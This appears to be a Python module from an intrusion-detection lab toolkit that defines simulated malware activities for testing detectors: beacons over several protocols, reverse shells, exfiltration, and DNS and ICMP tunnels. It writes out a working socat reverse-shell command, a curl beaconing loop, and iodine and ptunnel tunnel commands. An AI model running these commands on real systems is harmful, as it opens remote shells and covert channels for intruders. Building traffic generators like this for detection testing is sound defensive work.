"""Malware that calls home, tunnels, and data carried out."""

from __future__ import annotations

from idskit.lab.activity import Activity, attack, attack_script, played


def _beacon(name: str, script: str, *servers: str, more: str = "") -> Activity:
    return attack(name, "malware", played(script, more, "16"), *servers, seconds=75)


COVERT_CHANNELS = (
    _beacon("beacon", "beacon", "sink"),
    _beacon("tls-beacon", "tls-beacon", "web"),
    _beacon("http-beacon", "http-beacon", "service"),
    _beacon("http-beacon-steady", "http-beacon", "service", more="0.05"),
    attack(
        "http-beacon-slow",
        "malware",
        "{play} http-beacon {server} 14 4 0.3",
        "service",
        seconds=200,
    ),
    attack("tls-beacon-slow", "malware", "{play} tls-beacon {server} 14 4", "web", seconds=200),
    attack("dns-beacon-slow", "malware", "{play} dns-beacon {server} 14 4", "dns", seconds=200),
    _beacon("dns-beacon", "dns-beacon", "dns"),
    _beacon("icmp-beacon", "icmp-beacon"),
    attack(
        "curl-beacon",
        "malware",
        "sh -c 'for n in $(seq 14); do curl -s -o /dev/null http://{server}:8081/api/j?n=3; "
        "sleep 3; done'",
        "service",
        needs=("curl",),
    ),
    attack_script("generate-domains", "malware", "generate-domains", "dns"),
    attack_script("reverse-shell", "malware", "shell", "sink"),
    attack_script("reverse-shell-typed", "malware", "shell-backwards", "controller"),
    attack_script("reverse-shell-tls", "malware", "shell-backwards", "controller-tls", more="tls"),
    attack(
        "reverse-shell-real",
        "malware",
        "socat -T 30 EXEC:/bin/sh,stderr TCP:{server}:4445",
        "controller",
        seconds=30,
    ),
    attack_script("irc-bot", "malware", "chat-as-bot", "sink"),
    attack_script("mine-coins", "malware", "mine-coins", "sink"),
    attack_script("spread", "malware", "spread", "telnet", "service", "sink"),
    attack_script("load", "malware", "load", "service"),
    attack_script("exfiltrate", "exfiltration", "exfiltrate", "sink"),
    attack_script("exfiltrate-http", "exfiltration", "exfiltrate-http", "service"),
    attack_script("exfiltrate-tls", "exfiltration", "exfiltrate-http", "service-tls", more="8443"),
    attack_script("exfiltrate-dns", "exfiltration", "dns-leak", "dns"),
    attack_script("exfiltrate-icmp", "exfiltration", "carry-by-icmp"),
    attack_script("dns-tunnel", "tunnel", "dns-tunnel", "dns"),
    attack_script("dnscat", "tunnel", "dnscat", "dns"),
    attack(
        "iodine",
        "tunnel",
        'sh -c \'iodine -f -r -P "correct horse" {gateway} t.lab.example & sleep 6; '
        "ping -c 8 -i 0.5 10.99.0.1; curl -s -m 15 -o /dev/null http://10.99.0.1/index.html; "
        "ping -c 5 -s 800 10.99.0.1; kill $!'",
        "iodine",
        "web",
        needs=("iodine", "ping", "curl"),
    ),
    attack(
        "ptunnel",
        "tunnel",
        "sh -c 'ptunnel -p {gateway} -lp 8000 -da {gateway} -dp 80 & sleep 2; "
        "for n in 1 2 3; do curl -s -m 10 -o /dev/null http://127.0.0.1:8000/index.html; sleep 2; "
        "done; kill $!'",
        "icmp-tunnel",
        "web",
        needs=("ptunnel", "curl"),
        seconds=45,
    ),
)
